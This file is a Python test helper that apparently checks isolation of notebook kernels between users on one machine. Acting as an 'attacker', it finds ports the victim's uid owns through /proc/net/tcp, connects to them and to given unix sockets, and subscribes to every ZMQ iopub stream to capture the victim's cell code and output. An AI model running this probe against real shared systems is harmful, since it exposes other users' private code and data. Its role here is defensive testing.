"""Another user against a notebook's kernels (test_notebook.py): run as the
attacker, with the victim's uid and the sockets the test found for the
victim's kernels:  kernel_probe.py UID '{"tcp": [PORT...], "unix": [PATH...]}'

Adds every TCP port listening on this machine that /proc/net/tcp{,6} says
the victim owns, connects to each port and socket it can, subscribes to
everything on each (ZMQ SUB: a kernel's iopub publishes every cell's code
and output to any subscriber), prints "ready", and listens until a line
arrives on stdin. Then prints, as JSON, what it could connect to and every
message it received.
"""
import json
import socket
import sys
import threading

import zmq

LISTEN = "0A"


def listening_ports_of(uid):
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            cols = row.split()
            if cols[3] == LISTEN and int(cols[7]) == uid:
                ports.add(int(cols[1].rsplit(":", 1)[1], 16))
    return ports


def can_connect(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(address)
        return True
    except OSError:
        return False
    finally:
        s.close()


def main():
    uid, known = int(sys.argv[1]), json.loads(sys.argv[2])
    ctx = zmq.Context()
    connected, subs = [], []
    endpoints = [("tcp", p) for p in sorted(set(known["tcp"]) | listening_ports_of(uid))]
    endpoints += [("unix", p) for p in known["unix"]]
    for kind, where in endpoints:
        if kind == "tcp" and can_connect(socket.AF_INET, ("127.0.0.1", where)):
            url = f"tcp://127.0.0.1:{where}"
        elif kind == "unix" and can_connect(socket.AF_UNIX, where):
            url = f"ipc://{where}"
        else:
            continue
        connected.append(url)
        sub = ctx.socket(zmq.SUB)
        sub.setsockopt(zmq.SUBSCRIBE, b"")
        sub.connect(url)
        subs.append(sub)
    stop = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.readline(), stop.set()), daemon=True).start()
    print("ready", flush=True)
    poller = zmq.Poller()
    for s in subs:
        poller.register(s, zmq.POLLIN)
    received = []
    while not stop.is_set():
        if not subs:
            stop.wait(0.2)
            continue
        for s, _ in poller.poll(200):
            received.append([p.decode("utf-8", "replace") for p in s.recv_multipart()])
    print(json.dumps({"connected": connected, "received": received}), flush=True)
    for s in subs:
        s.close(linger=0)
    ctx.term()


if __name__ == "__main__":
    main()
